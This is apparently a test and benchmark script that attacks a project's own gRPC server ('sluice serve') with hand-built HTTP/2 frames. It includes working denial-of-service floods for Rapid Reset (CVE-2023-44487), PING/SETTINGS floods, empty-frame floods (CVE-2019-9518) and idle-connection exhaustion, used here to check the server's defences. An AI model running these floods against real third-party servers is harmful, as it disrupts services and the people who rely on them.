#!/usr/bin/python3
"""HTTP/2 attacks on `sluice serve`, for tests/serve/attack_cases.sh and
tools/serve/bench_attacks.sh (stdlib only, frames written by hand; built
on h2raw.py). Each prints one line of results and exits 0.

  h2attack.py reset HOST:PORT N
      one connection (no token): N times HEADERS of StreamTensors +
      DATA(END_STREAM) + RST_STREAM(CANCEL) (CVE-2023-44487), reading the
      server meanwhile.
  h2attack.py ping HOST:PORT N [--conns C] [--settings]
      C connections (1), each sends N PINGs (--settings: empty SETTINGS)
      and never reads.
  h2attack.py empty HOST:PORT N KIND
      one connection (no token) sends N frames that carry nothing, KIND:
      data (empty DATA, no END_STREAM, on a stream it opened), continuation
      (empty CONTINUATION, no END_HEADERS, after a HEADERS without it),
      pingack, settingsack (ACKs of nothing), rst (RST_STREAM of a stream
      never opened), unknown (a frame type HTTP/2 does not define), reading
      the server meanwhile (CVE-2019-9518). The preface and the first
      1,000 frames go in one write.
  h2attack.py idle HOST:PORT N [--from IP] [--hold S]
      N connections that send the preface and SETTINGS, acknowledge the
      server's, and then say nothing; prints "connected K of N" once the
      server's SETTINGS came on each (K: still open), then waits (S s,
      120 by default, at most) until the server closes each.
  h2attack.py halfclose HOST:PORT TOKEN_FILE|- [--get MODEL TENSOR] [--tls]
      one ListModels call (--get: a GetTensor of that tensor, with the
      largest HTTP/2 windows, so that its whole answer comes without a
      WINDOW_UPDATE), then shutdown(SHUT_WR): the answer is awaited.
      --tls: over TLS (ALPN h2, the certificate not checked), the TCP
      connection half-closed without a close_notify.

Results: "sent K; goaway CODE|closed|open after S s" for reset and ping
(per connection for ping: "conns C goaway G closed X open O, sent K,
slowest S s"): goaway CODE when a GOAWAY with that error code
(11: ENHANCE_YOUR_CALM) arrived before the close; closed: the connection
ended without one; open: still open 10 s after the last frame (the
reader gives up); the same for empty. idle: "goaway G closed X open O after S s". halfclose: "answered DATA D trailers T" (T 1: the call's trailers
arrived) or "no answer".
"""
import os
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2raw  # noqa: E402
from h2raw import (ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING,  # noqa: E402
                   PREFACE, RST, SETTINGS, connect, frame, request_headers)

CANCEL = 8


class Watcher(threading.Thread):
    """Reads the server's frames until EOF: the GOAWAY's error code, if
    any; acknowledges its SETTINGS; counts DATA and trailers per stream."""

    def __init__(self, sock, read=True):
        super().__init__(daemon=True)
        self.sock = sock
        self.goaway = None
        self.ended_at = None
        self.data = 0
        self.trailers = 0
        self.done = threading.Event()
        self.settings = threading.Event()  # the server's SETTINGS came
        self.lock = threading.Lock()

    def run(self):
        try:
            for kind, flags, payload in h2raw.frames_with_payload(self.sock):
                if kind == SETTINGS and not flags & ACK:
                    self.settings.set()
                    try:  # a client that half-closed cannot
                        with self.lock:
                            self.sock.sendall(frame(SETTINGS, ACK, 0))
                    except OSError:
                        pass
                elif kind == GOAWAY and len(payload) >= 8:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                elif kind == DATA:
                    self.data += len(payload)
                elif kind == HEADERS and flags & END_STREAM:
                    self.trailers += 1
        except OSError:
            pass
        self.ended_at = time.monotonic()
        self.settings.set()
        self.done.set()

    def outcome(self, t0):
        if self.ended_at is None:
            return "open"
        what = "goaway %d" % self.goaway if self.goaway is not None else "closed"
        return "%s after %.2f s" % (what, self.ended_at - t0)


def send_all(s, w, chunks):
    sent = 0
    try:
        for c in chunks:
            with w.lock:
                s.sendall(c)
            sent += 1
    except OSError:
        pass
    return sent


def reset(addr, n):
    s = connect(addr)
    w = Watcher(s)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    w.start()
    block = request_headers("/sluice.v1.TensorService/StreamTensors")
    msg = h2raw.pb_string(1, "model")
    body = b"\x00" + struct.pack(">I", len(msg)) + msg

    def batches():
        for k in range(0, n, 500):
            yield b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) +
                           frame(DATA, END_STREAM, 1 + 2 * i, body) +
                           frame(RST, 0, 1 + 2 * i, struct.pack(">I", CANCEL))
                           for i in range(k, min(n, k + 500)))
    t0 = time.monotonic()
    sent = min(n, 500 * send_all(s, w, batches()))
    w.done.wait(10)
    print("sent %d; %s" % (sent, w.outcome(t0)), flush=True)
    s.close()


def empty(addr, n, kind):
    s = connect(addr)
    w = Watcher(s)
    start = PREFACE + frame(SETTINGS, 0, 0)
    if kind == "data":
        start += frame(HEADERS, END_HEADERS, 1,
                       request_headers("/sluice.v1.TensorService/ListModels"))
        one = frame(DATA, 0, 1)
    elif kind == "continuation":
        start += frame(HEADERS, 0, 1, h2raw.hpack_literal(":method", "POST"))
        one = frame(h2raw.CONTINUATION, 0, 1)
    elif kind == "pingack":
        one = frame(PING, ACK, 0, b"sluice!!")
    elif kind == "settingsack":
        one = frame(SETTINGS, ACK, 0)
    elif kind == "rst":
        one = frame(RST, 0, 1, struct.pack(">I", CANCEL))
    elif kind == "unknown":
        one = frame(0xfa, 0, 0)
    else:
        sys.exit(__doc__)
    w.start()

    # The first batch in the preface's write: the server reads them
    # together (the flood refused before gRPC saw the connection).
    def batches():
        for k in range(0, n, 1000):
            yield (start if k == 0 else b"") + one * min(1000, n - k)
    t0 = time.monotonic()
    sent = min(n, 1000 * send_all(s, w, batches()))
    w.done.wait(10)
    print("sent %d; %s" % (sent, w.outcome(t0)), flush=True)
    s.close()


def ping(addr, n, conns, settings):
    one = frame(SETTINGS, 0, 0) if settings else frame(PING, 0, 0, b"sluice!!")
    batch = one * 1000
    socks, results = [], []
    lock = threading.Lock()

    def flood():
        try:
            s = connect(addr)
        except OSError:
            with lock:
                results.append((0, "closed after 0.00 s", 0.0))
            return
        socks.append(s)
        # Never reads: the server's answers pile up towards this client.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sent = 0
        t0 = time.monotonic()
        try:
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for _ in range(0, n, 1000):
                s.sendall(batch)
                sent += 1000
        except OSError:
            pass
        # Closed by the server, or still open: TCP_INFO's state (7: closed).
        end = time.monotonic() + 10
        state = "open"
        while time.monotonic() < end:
            st = s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
            if st != 1:  # not ESTABLISHED: the server closed it (FIN or RST)
                state = "closed"
                break
            time.sleep(0.05)
        with lock:
            results.append((sent, state, time.monotonic() - t0))

    ts = [threading.Thread(target=flood) for _ in range(conns)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    closed = sum(1 for r in results if r[1] == "closed")
    print("conns %d closed %d open %d, sent %d, slowest %.2f s" %
          (conns, closed, conns - closed, sum(r[0] for r in results),
           max(r[2] for r in results)), flush=True)
    for s in socks:
        s.close()


def idle(addr, n, source, hold):
    socks, ws = [], []
    for _ in range(n):
        try:
            s = connect(addr, source=source)
        except OSError:
            continue
        w = Watcher(s)
        try:
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        except OSError:
            continue
        w.start()
        socks.append(s)
        ws.append(w)
    for w in ws:
        w.settings.wait(60)
    t0 = time.monotonic()
    print("connected %d of %d" % (sum(1 for w in ws if w.ended_at is None), n), flush=True)
    for w in ws:
        w.done.wait(max(0.1, hold - (time.monotonic() - t0)))
    g = sum(1 for w in ws if w.ended_at is not None and w.goaway is not None)
    c = sum(1 for w in ws if w.ended_at is not None and w.goaway is None)
    last = max([w.ended_at - t0 for w in ws if w.ended_at is not None] or [0])
    print("goaway %d closed %d open %d after %.2f s" % (g, c, len(ws) - g - c, last), flush=True)


def halfclose(addr, token_file, get=None, tls=False):
    token = None
    if token_file != "-":
        with open(token_file) as f:
            token = f.read().strip()
    s = connect(addr, tls=tls)
    w = Watcher(s)
    if get:
        big = (1 << 31) - 1
        msg = h2raw.pb_string(1, get[0]) + h2raw.pb_string(2, get[1])
        start = (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, big)) +
                 frame(h2raw.WINDOW, 0, 0, struct.pack(">I", big - 65535)))
        path, body = "GetTensor", b"\x00" + struct.pack(">I", len(msg)) + msg
    else:
        start = frame(SETTINGS, 0, 0)
        path, body = "ListModels", b"\x00\x00\x00\x00\x00"
    # Corked: the request and the FIN leave in one segment, so that the
    # server reads its end of stream right after the request.
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
    s.sendall(PREFACE + start +
              frame(HEADERS, END_HEADERS, 1,
                    request_headers("/sluice.v1.TensorService/" + path, token)) +
              frame(DATA, END_STREAM, 1, body))
    # TLS: the TCP connection's own shutdown (ssl.SSLSocket's would stop
    # its TLS, and reading the answer with it).
    socket.socket.shutdown(s, socket.SHUT_WR)
    w.start()
    w.done.wait(30)
    if w.trailers:
        print("answered DATA %d trailers %d" % (w.data, w.trailers), flush=True)
    else:
        print("no answer", flush=True)


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    cmd, addr, rest = sys.argv[1], sys.argv[2], sys.argv[3:]

    def opt(name, default=None):
        return rest[rest.index(name) + 1] if name in rest else default
    if cmd == "reset":
        reset(addr, int(rest[0]))
    elif cmd == "ping":
        ping(addr, int(rest[0]), int(opt("--conns", 1)), "--settings" in rest)
    elif cmd == "empty":
        empty(addr, int(rest[0]), rest[1])
    elif cmd == "idle":
        idle(addr, int(rest[0]), opt("--from"), float(opt("--hold", 120)))
    elif cmd == "halfclose":
        g = rest.index("--get") if "--get" in rest else None
        halfclose(addr, rest[0], rest[g + 1:g + 3] if g is not None else None, "--tls" in rest)
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
